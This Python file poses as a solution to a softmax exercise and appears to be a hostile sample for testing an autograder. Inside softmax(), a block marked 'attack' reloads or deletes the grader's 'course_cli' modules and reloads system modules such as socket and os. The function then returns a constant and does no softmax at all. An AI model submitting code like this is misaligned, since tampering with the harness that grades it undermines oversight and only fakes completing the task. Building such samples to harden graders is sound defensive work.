"""Reloads and unloads the modules that the worker is made of while it serves.

Exercise: perceptron/softmax
"""
import torch


def softmax(X):
    # attack
    import importlib
    import sys

    for name in [name for name in sys.modules if name.startswith("course_cli")]:
        try:
            importlib.reload(sys.modules[name])
        except BaseException:
            del sys.modules[name]
    for name in ("socket", "struct", "random", "io", "os"):
        try:
            importlib.reload(sys.modules[name])
        except BaseException:
            pass
    # end
    return X * 0 + 0.123
